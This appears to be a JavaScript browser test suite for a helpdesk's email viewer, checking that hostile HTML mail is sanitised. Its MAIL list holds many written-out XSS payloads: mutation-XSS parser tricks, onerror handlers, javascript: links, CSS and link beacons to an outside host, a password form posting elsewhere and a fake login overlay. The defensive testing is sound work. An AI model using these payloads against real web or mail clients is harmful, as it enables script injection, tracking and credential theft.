// Mail of strangers: whatever HTML it is, nothing of it runs, nothing asks another house for anything, the page stays where it
// is; and what is meant to be read can be read.
import assert from "node:assert/strict";
import { after, afterEach, before, test } from "node:test";
import { House, has, until } from "./harness.mjs";
import { PAYLOADS } from "./payloads.mjs";
import { scan } from "../scan.mjs";

let house;
before(async () => { house = await House.open(); });
after(() => house.close());
afterEach(() => house.tidy());

const mark = (n) => `top.document.documentElement.dataset.owned=${n}`;
const out = (n) => `https://elsewhere.example/${n}`;
/** What is tried in mail above all. */
const MAIL = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${mark(1)}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${mark(2)}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${mark(3)}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${mark(4)}>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${mark(5)}>">`,
  `<style>@import "${out(6)}";@font-face{font-family:x;src:url(${out(6)})}input[value^=a]{background:url(${out(6)})}*{font-family:x}</style><p>x</p>`,
  `<p style="background:url(${out(7)});background:u\\72l(${out(7)});background-image:image-set('${out(7)}' 1x);cursor:url(${out(7)}),auto;list-style:url(${out(7)})">x</p>`,
  `<link rel=stylesheet href=${out(8)}><link rel=prefetch href=${out(8)}><link rel=dns-prefetch href=${out(8)}><link rel=preconnect href=${out(8)}>`,
  `<meta http-equiv=refresh content="0;url=${out(9)}"><meta http-equiv=set-cookie content=x=y>`,
  `<base href=${out(10)}><base target=_top><a href=/x>x</a><img src=x.png>`,
  `<a href="javascript:${mark(11)}">x</a><a href="data:text/html,<script>${mark(11)}</script>">x</a><a href=" java&#10;script:${mark(11)}">x</a>`,
  `<form action=${out(12)} target=_top><input name=password><input type=image src=${out(12)}><button autofocus>x</button></form>`,
  `<img srcset="${out(13)} 1x" src=x><picture><source srcset=${out(13)}><img src=${out(13)}></picture>`,
  `<img src="cid:${out(14)}"><img src="cid:../../logout"><img src="cid:x\\" onerror=${mark(14)}">`,
  `<table background=${out(15)}><tr background=${out(15)}><td background=${out(15)} style="background-image:url(${out(15)})">x</td></tr></table>`,
  `<video src=${out(16)} poster=${out(16)} autoplay></video><audio src=${out(16)}></audio><track src=${out(16)}>`,
  `<object data=${out(17)}><embed src=${out(17)}></object><applet code=x></applet><iframe src=${out(17)} srcdoc="<script>${mark(17)}</script>"></iframe>`,
  `<svg><image href=${out(18)} /><use href=${out(18)}#x /><script>${mark(18)}</script><foreignObject><iframe src=${out(18)}></iframe></foreignObject></svg>`,
  `<div style="position:fixed;inset:0;z-index:9;background:white">Log in again <input></div>`,
  `<img src=${out(20)} width=1 height=1><img src=${out(20)}/logo.png alt=Logo width=90>`,
  `<a href=${out(21)} ping=${out(21)} download target=_top>x</a><area href=${out(21)} ping=${out(21)}>`,
  `<body onload=${mark(22)} background=${out(22)}><frameset onload=${mark(22)}><frame src=${out(22)}></frameset>`,
  `<div id=main class=frame data-on=rail data-refresh=/logout hx-get=/logout hx-trigger=load>x</div>`,
  `${"<div>".repeat(20_000)}deep<img src=x onerror=${mark(24)}>`,
];

/** What a frame says of the first of its elements that a selector finds: its words, and whether it is seen. Asked from the
 *  page around it: what a driver does within the frame would be a script that is stopped there, and be told as one. */
const inside = (page, frame, selector) => page.evaluate(([frame, selector]) => {
  const found = document.querySelector(frame)?.contentDocument?.querySelector(selector);
  return found ? { words: found.textContent, seen: found.checkVisibility() } : null;
}, [frame, selector]);

/** A click on something within a frame, at its place in the window. */
async function press(page, frame, selector) {
  const place = await page.evaluate(([frame, selector]) => {
    const outer = document.querySelector(frame), inner = outer.contentDocument.querySelector(selector);
    inner.scrollIntoView({ block: "center" });
    const around = outer.getBoundingClientRect(), box = inner.getBoundingClientRect();
    return [around.left + box.left + box.width / 2, around.top + box.top + box.height / 2];
  }, [frame, selector]);
  await page.mouse.click(...place);
}

test("hostile mail runs nothing, asks nobody, and leads the page nowhere", async () => {
  const all = [...MAIL, ...PAYLOADS].filter((text) => !/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/.test(text));
  const mail = await house.ring({ login: undefined }, "mallory@example.org", { channel: "email", state: "closed" });
  // As many as fit into one document, so that they meet; the first ones alone.
  const packs = MAIL.slice();
  for (const text of all) if (packs.at(-1).length + text.length < 12_000 && packs.length > MAIL.length) packs[packs.length - 1] += `\n${text}`; else packs.push(text);
  const ids = [];
  for (const html of packs) ids.push((await house.api("POST", `/interactions/${mail.id}/messages`, { from: "mallory@example.org", html })).id);
  const agent = await house.agent("en");
  const { page } = agent;
  await page.goto(`/interactions/${mail.id}/details`);
  const address = page.url();
  // A long conversation shows its newest; the earlier ones come in their place.
  while (await page.locator(".earlier-messages a").count()) {
    const left = await page.locator(".earlier-messages").innerText();
    await page.click(".earlier-messages a");
    await until(async () => (await page.locator(".earlier-messages").allInnerTexts()).join() !== left, "the earlier ones came");
  }
  for (const id of ids) {
    const frame = `iframe[src="/messages/${id}/html"]`;
    await page.locator(frame).scrollIntoViewIfNeeded();
    await until(() => inside(page, frame, "main"), "the mail is there");
  }
  const found = await page.evaluate(() => [...document.querySelectorAll("iframe.mail")].map((frame) => ({
    owned: document.documentElement.dataset.owned ?? null,
    elements: [...frame.contentDocument.querySelectorAll("script, iframe, object, embed, base, form, input, button, svg, math, link, meta[http-equiv], main img:not([src^='data:image/']), [onerror], [onload], [id], [hx-get], a[href^='javascript' i], a[href^='data' i], a:not([target=_blank]):not([href='?pictures=1'])")].filter((one) => one.hasAttribute("href") || one.tagName !== "A").map((one) => one.outerHTML.slice(0, 120)),
  })).filter((one) => one.owned || one.elements.length));
  assert.deepEqual(found, []);
  assert.equal(page.url(), address);
  assert.deepEqual(await scan(page, "mail", { widths: [360, 1440] }), []);
  // With the pictures: through the house, which has nobody to ask here.
  const id = ids[19], frame = `iframe[src="/messages/${id}/html"]`;
  assert.match((await inside(page, frame, ".notice")).words, /^1 remote picture was not loaded/);
  await press(page, frame, ".notice a");
  await until(() => inside(page, frame, `img[src="/messages/${id}/picture?n=0"]`), "the picture comes through the house");
  assert.equal(page.url(), address);
});

test("a mail is as tall as it is, in dark too; its plain text and its quotation are one click away", async () => {
  const html = `<div style="font-family:Georgia;color:#222"><p>Hello,</p><p>the lamp came <b>broken</b>. See <a href="https://evil.example/x">www.norrvik.example</a>.</p>${"<p>More words.</p>".repeat(30)}</div><div class="gmail_quote"><div>On Mon, 2 Mar 2026 at 10:00 Norrvik wrote:</div><blockquote class="gmail_quote">Thank you for your order.</blockquote></div>`;
  const text = "Hello,\nthe lamp came broken.\n\nOn Mon, 2 Mar 2026 at 10:00 Norrvik <us@norrvik.example> wrote:\n> Thank you for your order.\n-- \nEva";
  const mail = await house.ring({ login: undefined }, "eva@shop.example", { channel: "email", state: "closed", messages: [{ from: "eva@shop.example", subject: "Lamp", html, text }] });
  const agent = await house.agent("en", { colorScheme: "dark", viewport: { width: 360, height: 740 } });
  const { page } = agent;
  await page.goto(`/interactions/${mail.id}/details`);
  const frame = page.locator("iframe.mail");
  await until(async () => (await frame.boundingBox()).height > 700, "as tall as its words");
  assert.equal(await frame.evaluate(({ contentDocument: { documentElement: root } }) => root.scrollHeight - root.clientHeight), 0);
  assert.equal(await page.evaluate(() => document.documentElement.scrollWidth > innerWidth), false);
  assert.match((await inside(page, "iframe.mail", "main")).words, /www\.norrvik\.example \[evil\.example\]/);
  const closed = (await frame.boundingBox()).height;
  assert.equal((await inside(page, "iframe.mail", "blockquote")).seen, false);
  await press(page, "iframe.mail", "summary");
  await until(async () => (await inside(page, "iframe.mail", "blockquote")).seen, "the quotation is opened");
  await until(async () => (await frame.boundingBox()).height > closed, "grows with what is opened");
  await page.locator(".as-text > summary").click();
  await until(async () => !(await frame.isVisible()), "one of the two");
  await has(page, ".as-text", "the lamp came broken.");
  assert.equal(await page.locator(".as-text .folded").count(), 2);
  await page.locator(".as-text .folded > summary").first().click();
  await has(page, ".as-text .folded", "> Thank you for your order.");
  assert.deepEqual(await scan(page, "mail", { widths: [360, 1440] }), []);
});
